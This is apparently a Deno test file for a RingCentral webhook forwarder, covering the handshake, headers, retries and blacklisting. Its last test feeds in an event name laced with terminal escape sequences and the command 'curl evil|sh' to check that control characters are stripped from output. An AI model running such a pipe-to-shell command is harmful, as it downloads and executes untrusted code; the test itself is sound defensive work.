/**
 * The forwarder behind `deno task listen`: the handshake RingCentral makes,
 * each event with RingCentral's body and headers, the retries after a
 * failed try (on an injected clock: no real waiting), and the blacklisting
 * RingCentral would do.
 */
import { deepEqual, equal, match } from "node:assert/strict";
import { FAILURES_TO_BLACKLIST, Forwarder, RETRY_PAUSES_MS } from "../lib/webhook_forward.ts";
import type { EventNotification } from "../lib/subscribe.ts";

const EVENT: EventNotification = {
  uuid: "e-1",
  event: "/restapi/v1.0/account/809646016/extension/62264425101/message-store/instant?type=SMS",
  timestamp: "2025-01-01T00:00:00.000Z",
  subscriptionId: "s-1",
  ownerId: "62264425101",
  body: { subject: "Hi" },
};

/** A receiver that answers with `statuses` in turn (the last one from then on), recording what it got. */
function receiver(statuses: number[], { echo = true } = {}) {
  const got: { headers: Headers; body: string }[] = [];
  let events = 0;
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
    got.push({ headers: request.headers, body: await request.text() });
    const token = request.headers.get("validation-token");
    const status = token ? 200 : statuses[Math.min(events++, statuses.length - 1)];
    return new Response(null, { status, headers: token && echo ? { "Validation-Token": token } : {} });
  });
  return { got, url: `http://127.0.0.1:${server.addr.port}/hook`, close: () => server.shutdown() };
}

Deno.test("Forwarder: the handshake first, then the event with RingCentral's body and headers", async () => {
  const r = receiver([200]);
  try {
    const lines: string[] = [];
    const f = new Forwarder({ to: r.url, print: (l) => lines.push(l), verificationToken: "secret-v" });
    equal(await f.handshake(), true);
    equal(await f.deliver(EVENT), true);
    equal(r.got.length, 2);
    equal(r.got[0].body, "", "the handshake has no body");
    equal(typeof r.got[0].headers.get("validation-token"), "string");
    deepEqual(JSON.parse(r.got[1].body), EVENT, "the body is the event, as RingCentral posts it");
    equal(r.got[1].headers.get("content-type"), "application/json; charset=UTF-8");
    equal(r.got[1].headers.get("user-agent"), "RingCentral-Webhook/8.3");
    equal(r.got[1].headers.get("verification-token"), "secret-v");
    equal(r.got[1].headers.get("validation-token"), null);
    match(lines[0], /handshake {2}← 200 .*the Validation-Token came back/);
    match(lines[1], /…\/message-store\/instant\?type=SMS {2}← 200 /);
  } finally {
    await r.close();
  }
});

Deno.test("Forwarder: a receiver that does not echo the token is refused, as RingCentral would (SUB-525)", async () => {
  const r = receiver([200], { echo: false });
  try {
    const lines: string[] = [];
    equal(await new Forwarder({ to: r.url, print: (l) => lines.push(l) }).handshake(), false);
    match(lines[0], /did not echo the Validation-Token header .*SUB-525/);
  } finally {
    await r.close();
  }
  const lines: string[] = [];
  equal(await new Forwarder({ to: r.url, print: (l) => lines.push(l) }).handshake(), false); // nothing listens now
  match(lines[0], /← no answer .*connection refused: is the receiver running\?/);
});

Deno.test("Forwarder: a failed try is tried again after RingCentral's pauses; every line says the receiver's status", async () => {
  const r = receiver([500, 503, 200]);
  try {
    const lines: string[] = [];
    const slept: number[] = [];
    const f = new Forwarder({
      to: r.url,
      print: (l) => lines.push(l),
      sleep: (ms) => (slept.push(ms), Promise.resolve()),
    });
    equal(await f.deliver(EVENT), true);
    deepEqual(slept, [...RETRY_PAUSES_MS]);
    match(lines[0], /← 500 .*; again in 0\.5 s$/);
    match(lines[1], /← 503 .*\(try 2 of 3\); again in 1 s$/);
    match(lines[2], /← 200 .*\(try 3 of 3\)$/);
  } finally {
    await r.close();
  }
});

Deno.test("Forwarder: deliveries that fail every try, in a row, are the ones RingCentral blacklists for", async () => {
  const r = receiver([500]);
  try {
    const lines: string[] = [];
    const f = new Forwarder({ to: r.url, print: (l) => lines.push(l), sleep: () => Promise.resolve() });
    for (let i = 0; i < FAILURES_TO_BLACKLIST; i++) equal(await f.deliver(EVENT), false);
    const said = lines.filter((l) => l.includes("not delivered"));
    equal(said.length, FAILURES_TO_BLACKLIST);
    equal(said.filter((l) => /would blacklist this subscription now/.test(l)).length, 1);
  } finally {
    await r.close();
  }
});

Deno.test("Forwarder: an event name from the server is printed without control characters (ESC, C1)", async () => {
  const r = receiver([500, 200]);
  try {
    const lines: string[] = [];
    const f = new Forwarder({ to: r.url, print: (l) => lines.push(l), sleep: () => Promise.resolve() });
    const evil = {
      ...EVENT,
      event: "/restapi/v1.0/account/1/extension/2/message-store\u001b[2J\u001b[H RUN: curl evil|sh\u009b2J",
    };
    equal(await f.deliver(evil), true);
    equal(lines.length, 2);
    for (const line of lines) {
      // deno-lint-ignore no-control-regex
      equal(/[\u0000-\u001f\u007f-\u009f]/.test(line), false, JSON.stringify(line));
      match(line, /…\/message-store\[2J\[H RUN: curl evil\|sh2J {2}← /);
    }
  } finally {
    await r.close();
  }
});
